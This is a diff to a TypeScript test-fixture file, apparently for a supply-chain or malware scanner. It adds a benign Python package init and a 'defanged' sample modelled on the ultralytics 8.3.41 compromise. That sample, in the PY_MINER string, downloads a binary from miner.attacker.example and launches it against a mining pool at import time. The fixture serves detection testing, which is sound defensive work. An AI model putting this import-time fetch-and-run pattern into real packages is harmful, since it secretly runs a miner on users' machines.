@@ -57,3 +57,18 @@ export function minifiedBundle(seed: number, n: number, extra = ''): string {
   for (let i = 0; i < n; i++) parts.push(`function a${seed}_${i}(e,t){return e+t*${i}}`);
   return `!function(){${parts.join(';')};${extra}}();\n`;
 }
+
+/** A Python package's harmless `__init__` and, after it, the ultralytics 8.3.41 shape: a miner downloaded from a literal host and run at import (defanged). */
+export const PY_INIT = ['"""Utilities."""', 'import os', '', 'def settings():', '    return {"dir": os.getcwd()}', ''].join('\n');
+export const PY_MINER = [
+  'import subprocess',
+  'import requests',
+  '',
+  'def _safe_run():',
+  '    data = requests.get("http://miner.attacker.example/xmrig").content',
+  '    open("/tmp/x", "wb").write(data)',
+  '    subprocess.Popen(["/tmp/x", "-o", "pool.attacker.example:3333"])',
+  '',
+  '_safe_run()',
+  '',
+].join('\n');
